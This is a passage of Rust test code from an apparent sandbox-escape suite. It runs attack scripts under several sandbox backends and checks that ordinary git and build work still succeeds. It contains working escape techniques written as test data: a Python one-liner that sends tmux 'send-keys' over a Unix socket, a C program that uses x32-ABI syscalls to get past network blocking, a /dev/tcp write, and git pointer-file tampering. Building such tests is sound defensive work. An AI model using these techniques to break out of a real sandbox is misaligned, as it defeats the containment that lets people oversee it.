        "echo {MARK}; /usr/bin/python3 -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); s.sendall(b'send-keys id Enter\\n')\"",
        path.display()
    );
    let out = f.run(backend, &[], &script);
    // The client is gone once the run is: whatever it sent is queued on the connection.
    let received = listener.accept().ok().map(|(mut stream, _)| {
        stream.set_nonblocking(false).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(2)))
            .unwrap();
        let mut line = String::new();
        let _ = stream.read_to_string(&mut line);
        line
    });
    let ran_command = received.is_some_and(|l| l.starts_with("send-keys"));
    judge(&out, ran_command, "the server received send-keys")
}

/// A git pointer file the sandbox may write: after the run it must hold its old bytes again,
/// and a change must have been reported.
fn pointer_attack(f: &Fixture, backend: &str, pointer: &Path, script: &str) -> Verdict {
    let before = std::fs::read_to_string(pointer).unwrap();
    let out = f.run(backend, &[], script);
    if let Err(v) = ran(&out) {
        return v;
    }
    pointers_verdict(&out, &[pointer.to_path_buf()], &[before])
}

/// Every pointer is a plain file again (not a symlink to one) holding its old bytes: repaired
/// if the run reported a restore, blocked if nothing was reported.
fn pointers_verdict(out: &Output, pointers: &[PathBuf], before: &[String]) -> Verdict {
    for (pointer, before) in pointers.iter().zip(before) {
        let plain = std::fs::symlink_metadata(pointer).is_ok_and(|m| m.is_file());
        let after = std::fs::read_to_string(pointer).unwrap_or_default();
        if !plain || after != *before {
            return Verdict::Escaped(format!(
                "{} now {after:?}{}\n{}",
                pointer.display(),
                if plain { "" } else { " (not a plain file)" },
                super::text(out)
            ));
        }
    }
    if String::from_utf8_lossy(&out.stderr).contains("restored") {
        Verdict::Repaired
    } else {
        Verdict::Blocked
    }
}

fn rand_suffix() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos() as u64
}

/// Bytes waiting in a terminal's input queue (FIONREAD on the slave).
fn pending_input(slave: &OwnedFd) -> i32 {
    let mut n: libc::c_int = 0;
    // SAFETY: FIONREAD writes one int to the pointed-to stack value.
    unsafe { libc::ioctl(slave.as_raw_fd(), libc::FIONREAD, &mut n) };
    n
}

/// Normal work that must succeed inside the sandbox.
pub struct Work {
    pub name: &'static str,
    pub flags: fn(&Fixture) -> Vec<String>,
    pub script: &'static str,
    pub expect: &'static str,
    /// Needs the git store quarantine (native with the private view): without it the
    /// repository's common dir is read-only apart from objects, refs and logs, and git
    /// cannot take the `packed-refs.lock` a ref deletion needs.
    pub needs_quarantine: bool,
    /// What must hold in the repository on the host afterwards, given the run's stdout.
    pub after: fn(&Fixture, &str) -> Result<(), String>,
}

fn nothing_after(_: &Fixture, _: &str) -> Result<(), String> {
    Ok(())
}

/// The host's `feature` is the sandbox's final HEAD (printed last by the script), and trunk
/// and the repository are intact.
fn task_branch_reached_the_host(f: &Fixture, stdout: &str) -> Result<(), String> {
    let head = stdout.lines().last().unwrap_or_default().trim();
    let feature = rev_parse(f, "feature");
    if feature != head {
        return Err(format!(
            "feature is {feature} on the host, the sandbox ended at {head}"
        ));
    }
    fsck_clean(f)
}

fn fsck_clean(f: &Fixture) -> Result<(), String> {
    let fsck = host_git(&f.main, &["fsck", "--strict", "--no-dangling"]);
    if !fsck.status.success() {
        return Err(format!("git fsck on the host: {}", super::text(&fsck)));
    }
    let trunk = host_git(&f.main, &["log", "-1", "--format=%s", "trunk"]);
    if String::from_utf8_lossy(&trunk.stdout).trim() != "init" {
        return Err(format!("trunk changed: {}", super::text(&trunk)));
    }
    Ok(())
}

/// The backends the quarantine runs under (native with its view, directly or in the daemon).
pub fn has_quarantine(backend: &str) -> bool {
    backend == "native" || backend == "native@daemon"
}

pub fn normal_work() -> Vec<Work> {
    vec![
        Work {
            name: "build and run a C program",
            flags: |_| vec![],
            script: "cc -o hello hello.c && ./hello",
            expect: "built and ran",
            needs_quarantine: false,
            after: nothing_after,
        },
        Work {
            name: "run a test suite (make test)",
            flags: |_| vec![],
            script: "make -s test",
            expect: "tests-passed",
            needs_quarantine: false,
            after: nothing_after,
        },
        Work {
            name: "git add / commit / branch / log",
            flags: |_| vec![],
            script: "echo change >> README && git add README && git commit -qm 'from the sandbox' && git branch side && git log --format=%s -1 && git branch --list side",
            expect: "from the sandbox",
            needs_quarantine: false,
            after: nothing_after,
        },
        Work {
            name: "git stash / stash pop",
            flags: |_| vec![],
            script: "echo wip >> README && git stash -q && git diff --quiet && git stash pop -q 2>/dev/null; grep -q wip README && echo stash-ok",
            expect: "stash-ok",
            needs_quarantine: false,
            after: nothing_after,
        },
        Work {
            name: "commit, amend, rebase and reset the task branch (reaches the host)",
            flags: |_| vec![],
            script: "echo 1 > one.txt && git add one.txt && git commit -qm one \
                     && git commit -q --amend -m one-amended \
                     && echo 2 > two.txt && git add two.txt && git commit -qm two \
                     && echo 3 > three.txt && git add three.txt && git commit -qm three \
                     && git rebase -q --onto HEAD~2 HEAD~1 \
                     && git reset -q --soft HEAD~1 && git commit -qm three-again \
                     && test \"$(git log --format=%s -3 | tr '\\n' ' ')\" = 'three-again one-amended init ' \
                     && echo history-ok && git rev-parse HEAD",
            expect: "history-ok",
            needs_quarantine: false,
            after: task_branch_reached_the_host,
        },
        Work {
            name: "stash push and pop the last stash (nothing left behind)",
            flags: |_| vec![],
            script: "echo wip >> README && git stash -q && git diff --quiet && git stash pop -q \
                     && grep -q wip README && test -z \"$(git stash list)\" && echo stash-ok",
            expect: "stash-ok",
            needs_quarantine: true,
            after: |f, _| {
                let list = host_git(&f.main, &["stash", "list"]);
                match String::from_utf8_lossy(&list.stdout).trim() {
                    "" => fsck_clean(f),
                    left => Err(format!("a stash was left in the repository: {left}")),
                }
            },
        },
        Work {
            name: "create and delete own branches and tags",
            flags: |_| vec![],
            script: "git branch side && git tag t1 && git branch -D side && git tag -d t1 \
                     && git commit -q --allow-empty -m kept && git branch keep && git tag keep-tag \
                     && echo refs-ok",
            expect: "refs-ok",
            needs_quarantine: true,
            after: |f, _| {
                for (rev, wanted) in [("side", false), ("t1", false), ("keep", true), ("keep-tag", true)] {
                    if rev_parse(f, rev).is_empty() == wanted {
                        return Err(format!(
                            "{rev} {} on the host",
                            if wanted { "is missing" } else { "is still there" }
                        ));
                    }
                }
                fsck_clean(f)
            },
        },
        Work {
            name: "git gc --auto inside does no harm",
            flags: |_| vec![],
            script: "for i in 1 2 3; do echo $i > gc$i.txt && git add gc$i.txt && git commit -qm gc$i; done; \
                     git -c gc.auto=1 -c gc.autoDetach=false gc --auto -q 2>/dev/null; \
                     git log --format=%s -1 | grep -q gc3 && echo gc-ok && git rev-parse HEAD",
            expect: "gc-ok",
            needs_quarantine: false,
            after: task_branch_reached_the_host,
        },
        Work {
            name: "open a new pseudo-terminal (script)",
            flags: |_| vec![],
            script: "script -qc 'echo in-a-pty' /dev/null",
            expect: "in-a-pty",
            needs_quarantine: false,
            after: nothing_after,
        },
        Work {
            name: "write and read TMPDIR",
            flags: |_| vec![],
            script: "test -n \"$TMPDIR\" && test \"$(stat -c %a \"$TMPDIR\")\" = 700 && echo tmp-ok > \"$TMPDIR/f\" && cat \"$TMPDIR/f\"",
            expect: "tmp-ok",
            needs_quarantine: false,
            after: nothing_after,
        },
        Work {
            name: "TCP connect to an allowed port under --block-net",
            flags: |_| vec![],
            script: "",
            expect: "",
            needs_quarantine: false,
            after: nothing_after,
        },
    ]
}

/// Runs the normal-work item; the TCP one is special-cased (it needs a live listener).
pub fn do_work(f: &Fixture, backend: &str, work: &Work) -> Result<(), String> {
    if work.script.is_empty() {
        let allowed = free_listener();
        let port = allowed.local_addr().unwrap().port();
        let out = f.run(
            backend,
            &block_net_flags(port),
            &format!("bash -c 'echo reached > /dev/tcp/127.0.0.1/{port}'"),
        );
        return match accepted(&allowed) {
            Some(text) if text.contains("reached") => Ok(()),
            _ => Err(super::text(&out)),
        };
    }
    let out = f.run(backend, &(work.flags)(f), work.script);
    let stdout = String::from_utf8_lossy(&out.stdout);
    if out.status.success() && stdout.contains(work.expect) {
        (work.after)(f, &stdout).map_err(|e| format!("{e}\n{}", super::text(&out)))
    } else {
        Err(super::text(&out))
    }
}

/// Runs every attack and every piece of work under each backend; returns the table rows.
pub fn run_suite(backends: &[&str]) -> Vec<(String, Vec<Verdict>)> {
    let mut rows = Vec::new();
    // `SANDBOX_ESCAPE_ONLY=<text>|<text>`: only the attacks whose name contains one of them
    // (a quick look at some rows while working on them; the full table is what counts).
    let only = std::env::var("SANDBOX_ESCAPE_ONLY").unwrap_or_default();
    let picked = |name: &str| only.split('|').any(|part| name.contains(part));
    for attack in attacks().into_iter().filter(|a| picked(a.name)) {
        let mut verdicts = Vec::new();
        for backend in backends {
            let verdict = match attack.needs {
                Some(tool) if !Path::new(tool).exists() => {
                    Verdict::Skipped("tool", format!("{tool} missing"))
                }
                _ => (attack.run)(&Fixture::new(), backend),
            };
            verdicts.push(verdict);
        }
        rows.push((attack.name.to_string(), verdicts));
    }
    rows
}

/// Prints the table, one column per backend.
pub fn print_table(backends: &[&str], rows: &[(String, Vec<Verdict>)]) {
    let width = rows.iter().map(|r| r.0.len()).max().unwrap_or(10);
    let columns: Vec<usize> = backends.iter().map(|b| b.len().max(10)).collect();
    let mut header = format!("{:width$}", "attack");
    for (b, w) in backends.iter().zip(&columns) {
        header.push_str(&format!("  {b:>w$}"));
    }
    super::report(header);
    for (name, verdicts) in rows {
        let mut line = format!("{name:width$}");
        for (v, w) in verdicts.iter().zip(&columns) {
            line.push_str(&format!("  {:>w$}", v.short()));
        }
        super::report(line);
    }
}

/// Builds (with the host's gcc, outside the sandbox) a program that sends one UDP datagram to
/// 127.0.0.1:<argv[1]> using only x32-ABI syscall numbers. It lives in the worktree so every
/// backend may run it. `None` off x86_64, where there is no x32 ABI.
fn x32_udp_program(f: &Fixture) -> Option<PathBuf> {
    if !cfg!(target_arch = "x86_64") {
        return None;
    }
    let source = f.outside.join("x32_udp.c");
    std::fs::write(
        &source,
        r#"#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
#define X32(nr) (0x40000000L | (nr))
int main(int argc, char **argv) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[1]))};
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    long fd = syscall(X32(SYS_socket), AF_INET, SOCK_DGRAM, 0);
    if (fd < 0) { printf("x32 socket: %s\n", strerror(errno)); return 1; }
    long n = syscall(X32(SYS_sendto), fd, "pwned", 5, 0, &to, sizeof to);
    if (n < 0) { printf("x32 sendto: %s\n", strerror(errno)); return 1; }
    puts("sent");
    return 0;
}
"#,
    )
    .unwrap();
    let program = f.task.join("x32_udp");
    let out = Command::new("gcc")
        .arg("-o")
        .arg(&program)
        .arg(&source)
        .output()
        .unwrap();
    assert!(out.status.success(), "gcc: {}", super::text(&out));
    Some(program)
}

/// Whether `victim` died, then reaps it either way. The attacker's own word (`sign` on its
/// stdout) only decides how long to wait: a delivered SIGKILL can take a moment to show on a
/// loaded machine. The verdict is the victim's state.
fn victim_died(victim: &mut Child, out: &Output, sign: &str) -> bool {
    let patience = if String::from_utf8_lossy(&out.stdout).contains(sign) {
        Duration::from_secs(5)
    } else {
        Duration::from_millis(100)
    };
    let deadline = std::time::Instant::now() + patience;
    let dead = loop {
        if victim.try_wait().unwrap().is_some() {
            break true;
        }
        if std::time::Instant::now() >= deadline {
            break false;
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    let _ = victim.kill();
    let _ = victim.wait();
    dead
}

/// Why the host control could not ptrace a sibling here (Yama), if so: then the attack
/// proves nothing on this machine.
fn ptrace_unavailable() -> Option<String> {
    let scope = std::fs::read_to_string("/proc/sys/kernel/yama/ptrace_scope").ok()?;
    match scope.trim() {
        "0" => None,
        "3" => Some("Yama ptrace_scope is 3: no process may ptrace here".into()),
        s if !nix::unistd::geteuid().is_root() => Some(format!(
            "Yama ptrace_scope is {s}: an unprivileged test cannot ptrace a non-descendant"
        )),
        _ => None,
    }
}
